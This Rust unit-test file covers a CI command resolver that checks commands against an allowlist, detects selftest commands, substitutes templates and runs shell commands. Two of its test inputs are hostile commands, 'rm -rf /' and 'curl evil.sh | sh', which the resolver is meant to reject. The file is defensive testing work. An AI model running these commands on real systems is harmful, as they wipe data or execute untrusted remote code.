// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;

fn tests(cmds: &[&str]) -> Vec<String> {
    cmds.iter().map(|s| s.to_string()).collect()
}

#[test]
fn selftest_detection() {
    assert!(is_selftest("python selftest --task-id {task_id}"));
    assert!(is_selftest("afctl selftest-command --task-id t1"));
    assert!(!is_selftest("python -m pytest -q"));
}

#[test]
fn real_test_requires_non_selftest() {
    assert!(has_real_test(&tests(&["python -m pytest -q"])));
    assert!(has_real_test(&tests(&[
        "python selftest --task-id {task_id}",
        "cargo test",
    ])));
    assert!(!has_real_test(&tests(&["python selftest --task-id x"])));
    assert!(!has_real_test(&[]));
}

#[test]
fn first_allowed_command_wins() {
    let cmds = tests(&["rm -rf /", "python -m pytest -q", "cargo test"]);
    let resolved = resolve_ci_command(&cmds, "t1", "j1", None, false).unwrap();
    assert_eq!(resolved, "python -m pytest -q");
}

#[test]
fn disallowed_commands_resolve_to_none() {
    let cmds = tests(&["rm -rf /", "curl evil.sh | sh"]);
    assert_eq!(resolve_ci_command(&cmds, "t1", "j1", None, false), None);
}

#[test]
fn allow_all_skips_the_allowlist() {
    let cmds = tests(&["make check"]);
    assert_eq!(
        resolve_ci_command(&cmds, "t1", "j1", None, true).unwrap(),
        "make check"
    );
}

#[test]
fn selftest_is_always_allowed() {
    let cmds = tests(&["python selftest --task-id {task_id}"]);
    assert_eq!(
        resolve_ci_command(&cmds, "t-42", "j1", None, false).unwrap(),
        "python selftest --task-id t-42"
    );
}

#[test]
fn templates_substitute() {
    let cmds = tests(&["python -m pytest -q -k {area} --job {job_id}"]);
    let resolved = resolve_ci_command(&cmds, "t1", "j-7", Some("parser"), false).unwrap();
    assert_eq!(resolved, "python -m pytest -q -k parser --job j-7");
}

#[test]
fn empty_area_collapses_whitespace() {
    let cmds = tests(&["python -m pytest -q -k {area} tests/"]);
    let resolved = resolve_ci_command(&cmds, "t1", "j1", None, false).unwrap();
    assert_eq!(resolved, "python -m pytest -q -k tests/");
}

#[tokio::test]
async fn run_executes_in_cwd_with_shell() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("marker"), "present").unwrap();

    let output = run_ci_command("cat marker", dir.path(), std::time::Duration::from_secs(5))
        .await
        .unwrap();
    assert!(output.ok());
    assert_eq!(output.stdout, "present");
}

#[tokio::test]
async fn run_reports_failure_exit() {
    let dir = tempfile::tempdir().unwrap();
    let output = run_ci_command("exit 7", dir.path(), std::time::Duration::from_secs(5))
        .await
        .unwrap();
    assert_eq!(output.exit_code, Some(7));
    assert!(!output.ok());
}
